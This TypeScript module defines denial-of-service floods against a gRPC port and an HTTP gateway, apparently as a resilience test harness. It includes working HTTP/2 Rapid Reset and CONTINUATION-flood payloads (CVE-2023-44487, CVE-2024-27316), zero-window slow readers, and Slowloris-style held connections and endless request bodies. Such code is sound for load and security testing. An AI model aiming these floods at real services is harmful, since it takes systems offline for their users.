import { setTimeout as sleep } from "node:timers/promises";
import { callHeaders, frame, frameTypes, preface } from "./frames";
import { type Flood, openSocket, pour } from "./pour";

const settings = frame(frameTypes.settings, 0, 0);
const opening = Buffer.concat([preface, settings]);
/** A window of nothing (SETTINGS_INITIAL_WINDOW_SIZE 0): answers cannot be sent. */
const closedWindow = Buffer.concat([
  preface,
  frame(frameTypes.settings, 0, 0, Buffer.from("000400000000", "hex")),
]);
const endHeaders = 4;
const endStream = 1;
const streamOf = (turn: number): number => 2 * turn + 1;

/** Floods of a gRPC port; each answers with how many pieces it sent. */
export const grpcFloods: Readonly<Record<string, (flood: Flood) => Promise<number>>> = {
  /** CVE-2023-44487: a call is begun and taken back at once. */
  "rapid resets": (flood) => {
    const headers = callHeaders(flood.path, flood.authority, flood.credentials);
    const cancel = Buffer.from([0, 0, 0, 8]);
    const call = (turn: number): Buffer => {
      const stream = streamOf(turn);
      return Buffer.concat([
        frame(frameTypes.headers, endHeaders, stream, headers),
        frame(frameTypes.reset, 0, stream, cancel),
      ]);
    };
    return pour(flood, call, { first: opening });
  },
  pings: (flood) => pour(flood, () => frame(frameTypes.ping, 0, 0, Buffer.alloc(8)), { first: opening }),
  settings: (flood) =>
    pour(flood, () => frame(frameTypes.settings, 0, 0, Buffer.from("000300000064", "hex")), {
      first: opening,
    }),
  /** CVE-2024-27316 and its kin: headers that never end. */
  continuations: (flood) => {
    const start = frame(frameTypes.headers, 0, 1, callHeaders(flood.path, flood.authority));
    const more = frame(
      frameTypes.continuation,
      0,
      1,
      callHeaders("/x", "x", { "x-more": "a".repeat(4_000) }),
    );
    return pour(flood, (turn) => (turn === 0 ? start : more), { first: opening });
  },
  "huge headers": (flood) => {
    const headers = callHeaders(flood.path, flood.authority, { "x-huge": "a".repeat(15_000) });
    return pour(flood, (turn) => frame(frameTypes.headers, endHeaders | endStream, streamOf(turn), headers), {
      first: opening,
    });
  },
  "empty data": (flood) => {
    const start = frame(
      frameTypes.headers,
      endHeaders,
      1,
      callHeaders(flood.path, flood.authority, flood.credentials),
    );
    return pour(flood, (turn) => (turn === 0 ? start : frame(frameTypes.data, 0, 1)), { first: opening });
  },
  "messages without an end": (flood) => {
    const start = frame(
      frameTypes.headers,
      endHeaders,
      1,
      callHeaders(flood.path, flood.authority, flood.credentials),
    );
    // A message of 4 GB is announced, and comes.
    const announced = frame(frameTypes.data, 0, 1, Buffer.from("00ffffffff", "hex"));
    const piece = frame(frameTypes.data, 0, 1, Buffer.alloc(16_000));
    return pour(flood, (turn) => (turn === 0 ? Buffer.concat([start, announced]) : piece), {
      first: opening,
    });
  },
  "priorities and windows": (flood) =>
    pour(
      flood,
      (turn) =>
        Buffer.concat([
          frame(frameTypes.priority, 0, streamOf(turn), Buffer.from("0000000010", "hex")),
          frame(frameTypes.windowUpdate, 0, 0, Buffer.from("7fffffff", "hex")),
        ]),
      { first: opening },
    ),
  /** Calls whose answers nobody takes. */
  "slow readers": (flood) => {
    const headers = callHeaders(flood.path, flood.authority, flood.credentials);
    const message = frame(frameTypes.data, endStream, 0, Buffer.alloc(5));
    const call = (turn: number): Buffer => {
      const stream = streamOf(turn);
      const body = Buffer.from(message);
      body.writeUInt32BE(stream, 5);
      return Buffer.concat([frame(frameTypes.headers, endHeaders, stream, headers), body]);
    };
    return pour(flood, call, { first: closedWindow, listens: false });
  },
  garbage: (flood) =>
    pour(flood, (turn) => Buffer.alloc(1_000, turn % 251), { first: Buffer.from(flood.authority) }),
  "connections that say nothing": (flood) => hold(flood, preface.subarray(0, 10)),
};

/** Floods of the gateway. */
export const httpFloods: Readonly<Record<string, (flood: Flood) => Promise<number>>> = {
  "requests one behind the other": (flood) =>
    pour(flood, () => Buffer.from(`GET ${flood.path} HTTP/1.1\r\nhost: ${flood.authority}\r\n\r\n`), {
      listens: false,
    }),
  "headers without an end": (flood) => {
    const start = Buffer.from(`GET / HTTP/1.1\r\nhost: ${flood.authority}\r\n`);
    return pour(flood, (turn) => (turn === 0 ? start : Buffer.from(`x-${turn}: ${"a".repeat(500)}\r\n`)));
  },
  "a body without an end": (flood) => {
    const start = Buffer.from(
      `POST /api/v1/sign-in HTTP/1.1\r\nhost: ${flood.authority}\r\ncontent-type: application/json\r\ntransfer-encoding: chunked\r\n\r\n`,
    );
    return pour(flood, (turn) => (turn === 0 ? start : Buffer.from(`3e8\r\n${" ".repeat(1_000)}\r\n`)));
  },
  "requests that do not come to an end": (flood) =>
    hold(flood, Buffer.from(`GET / HTTP/1.1\r\nhost: ${flood.authority}\r\n`)),
  "events that nobody reads": (flood) => {
    const headers = Object.entries(flood.credentials)
      .map(([name, value]) => `${name}: ${value}\r\n`)
      .join("");
    return hold(
      flood,
      Buffer.from(`GET ${flood.path}/events HTTP/1.1\r\nhost: ${flood.authority}\r\n${headers}\r\n`),
    );
  },
};

/** Very many connections that begin and do not go on. */
async function hold({ port, until }: Flood, beginning: Buffer): Promise<number> {
  const sockets = Array.from({ length: 300 }, () => openSocket(port, false));
  for (const socket of sockets) socket.write(beginning);
  await sleep(Math.max(1, until - Date.now()));
  for (const socket of sockets) socket.destroy();
  return sockets.length;
}
